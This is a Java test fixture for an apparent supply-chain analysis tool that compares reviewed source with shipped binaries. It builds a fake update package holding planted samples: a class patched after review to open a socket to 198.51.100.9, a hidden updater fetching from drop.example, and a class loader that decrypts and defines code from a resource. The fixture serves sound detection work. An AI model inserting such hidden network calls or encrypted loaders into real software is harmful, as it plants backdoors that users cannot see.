package dev.clearbox.analyzers.bytecode;

import dev.clearbox.analyzers.bytecode.internal.ElfImage;
import dev.clearbox.analyzers.capability.CapabilityModel;
import dev.clearbox.analyzers.source.SourceAnalysisRequest;
import dev.clearbox.analyzers.source.SourceAnalysisResult;
import dev.clearbox.analyzers.source.SourceAnalyzer;
import dev.clearbox.core.ProgressListener;
import dev.clearbox.core.unpack.PackageInventory;
import dev.clearbox.core.unpack.UnpackRequest;
import dev.clearbox.core.unpack.Unpacker;

import dev.clearbox.core.Finding;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * A vendor product built in code, analyzed once and shared by the tests (SpotBugs starts slowly): a
 * source tree (the corpus plus a file that ships no class) and an update package {@code product.zip}
 * holding {@code lib/app.jar} (the corpus compiled, plus a class not in the source, a class patched
 * after review, a class compiled for Java 8, a class-defining loader with an encrypted resource, and two
 * broken class files), {@code lib/obf.jar} (short names), {@code lib/old.jar} (Java 8) and a native library.
 */
final class ProductFixture {
    static final String PACKAGE = "product.zip";
    static final String APP = PACKAGE + "!/lib/app.jar!/";
    static final String PATCHED_SOURCE = """
            package com.acme;
            class Patched {
                void run() {
                    System.out.println("ok");
                }
            }
            """;
    static final String PATCHED_SHIPPED = """
            package com.acme;
            class Patched {
                void run() throws Exception {
                    System.out.println("ok");
                    new java.net.Socket("198.51.100.9", 25);
                }
            }
            """;
    static final String EXTRA = """
            package com.acme.app;
            public final class Updater {
                public static void go() throws Exception {
                    new java.net.URL("https://drop.example/u").openStream();
                }
            }
            """;
    static final String DEFINER = """
            package com.acme;
            import javax.crypto.Cipher;
            import javax.crypto.spec.SecretKeySpec;
            class Definer extends ClassLoader {
                Class<?> load() throws Exception {
                    byte[] sealed = Definer.class.getResourceAsStream("payload.bin").readAllBytes();
                    Cipher c = Cipher.getInstance("AES");
                    c.init(Cipher.DECRYPT_MODE, new SecretKeySpec(new byte[16], "AES"));
                    byte[] code = c.doFinal(sealed);
                    return defineClass(null, code, 0, code.length);
                }
            }
            """;

    /** A resource of plain text, large enough to be judged by its entropy, in the app jar. */
    static final String NOTES = "com/acme/notes.txt";

    final Path sourceRoot;
    final SourceAnalysisResult source;
    final BinaryAnalysisResult binary;
    final Correspondence correspondence;

    private ProductFixture(Path dir) throws IOException {
        CapabilityModel model = CapabilityModel.builtIn();
        sourceRoot = dir.resolve("repo");
        Map<String, String> sources = new LinkedHashMap<>(Corpus.sources());
        sources.put("com/acme/Patched.java", PATCHED_SOURCE);
        sources.put("com/acme/Definer.java", DEFINER);
        for (Map.Entry<String, String> e : sources.entrySet()) {
            write(sourceRoot.resolve(Corpus.ROOT + e.getKey()), e.getValue());
        }
        write(sourceRoot.resolve(Corpus.ROOT + "com/acme/Unshipped.java"), "package com.acme;\nclass Unshipped {\n}\n");

        Map<String, String> shipped = new LinkedHashMap<>(sources);
        shipped.put("com/acme/Patched.java", PATCHED_SHIPPED);
        shipped.put("com/acme/app/Updater.java", EXTRA);
        Path app = Compiler.compile(shipped, dir.resolve("app"), "-g");
        Compiler.compile(Map.of("com/acme/Odd.java", "package com.acme;\nclass Odd {\n    int x() {\n        return 1;\n    }\n}\n"),
                app, "--release", "8");
        write(sourceRoot.resolve(Corpus.ROOT + "com/acme/Odd.java"), "package com.acme;\nclass Odd {\n}\n");
        byte[] random = new byte[4096];
        new Random(7).nextBytes(random);
        Files.write(app.resolve("com/acme/payload.bin"), random);
        Files.writeString(app.resolve(NOTES), "Release notes of the Acme updater, plain text.\n".repeat(40));
        byte[] good = Files.readAllBytes(app.resolve("com/acme/Check.class"));
        Files.write(app.resolve("com/acme/Truncated.class"), Arrays.copyOf(good, 40));
        byte[] garbage = new byte[300];
        new Random(3).nextBytes(garbage);
        garbage[0] = (byte) 0xCA;
        garbage[1] = (byte) 0xFE;
        garbage[2] = (byte) 0xBA;
        garbage[3] = (byte) 0xBE;
        garbage[6] = 0;
        garbage[7] = 61;
        Files.write(app.resolve("com/acme/Garbage.class"), garbage);

        Map<String, String> obf = new LinkedHashMap<>();
        for (char c = 'a'; c <= 'l'; c++) {
            obf.put("o/" + c + ".java", "package o;\npublic class " + c + " {\n    int a() { return 1; }\n    int b() { return 2; }\n}\n");
        }
        Path obfClasses = Compiler.compile(obf, dir.resolve("obf"), "-g");
        Path oldClasses = Compiler.compile(Map.of("old/Legacy.java", "package old;\npublic class Legacy {\n}\n",
                "old/Legacy2.java", "package old;\npublic class Legacy2 {\n}\n"), dir.resolve("old"), "--release", "8");

        Path zip = dir.resolve(PACKAGE);
        try (ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(zip))) {
            entry(out, "lib/app.jar", jar(app));
            entry(out, "lib/obf.jar", jar(obfClasses));
            entry(out, "lib/old.jar", jar(oldClasses));
            entry(out, "native/libhelper.so", ElfImage.sharedObject());
        }
        PackageInventory inv = new Unpacker().unpack(UnpackRequest.of(zip, dir.resolve("unpacked")), ProgressListener.NONE);
        binary = new BinaryAnalyzer().analyze(new BinaryAnalysisRequest(
                List.of(BinaryInput.ofPackage(inv, dir.resolve("unpacked"))), model, true, List.of()),
                ProgressListener.NONE);
        source = new SourceAnalyzer(2).analyze(new SourceAnalysisRequest(sourceRoot, model, List.of()),
                ProgressListener.NONE);
        correspondence = SourceCorrespondence.compare(binary, source.findings(), sourceRoot);
    }

    /** The product, built and analyzed on first use, then shared read-only by every test class. */
    static ProductFixture get() {
        return Shared.PRODUCT;
    }

    /** Holder idiom: the JVM builds the product once, on first access, and publishes it safely. */
    private static final class Shared {
        static final ProductFixture PRODUCT = build();

        private static ProductFixture build() {
            try {
                Path dir = Files.createTempDirectory("clearbox-product-");
                dir.toFile().deleteOnExit();
                return new ProductFixture(dir);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
    }

    /** Binary capability (and, if asked, flow) findings of a corpus file, keyed by line, found through the class-to-source map. */
    Map<Integer, List<Finding>> binaryFindingsOf(String sourceFile, boolean includeFlows) {
        Map<Integer, List<Finding>> out = new TreeMap<>();
        for (ClassSource cs : correspondence.classes()) {
            if (!cs.sourceFile().equals(Corpus.ROOT + sourceFile)) {
                continue;
            }
            for (Finding f : binary.findings()) {
                boolean capability = f.rule() instanceof BinaryRule r && r.isCapabilityRule();
                boolean flow = includeFlows && f.rule() == BinaryRule.FLOW;
                if (f.location().file().equals(cs.classFile()) && (capability || flow)) {
                    out.computeIfAbsent(f.location().line(), k -> new ArrayList<>()).add(f);
                }
            }
        }
        return out;
    }

    private static void write(Path file, String text) throws IOException {
        Files.createDirectories(file.getParent());
        Files.writeString(file, text);
    }

    private static void entry(ZipOutputStream out, String name, byte[] bytes) throws IOException {
        out.putNextEntry(new ZipEntry(name));
        out.write(bytes);
        out.closeEntry();
    }

    private static byte[] jar(Path classes) throws IOException {
        java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(bytes); Stream<Path> files = Files.walk(classes)) {
            for (Path p : files.filter(Files::isRegularFile).sorted().toList()) {
                entry(out, classes.relativize(p).toString().replace('\\', '/'), Files.readAllBytes(p));
            }
        }
        return bytes.toByteArray();
    }

}
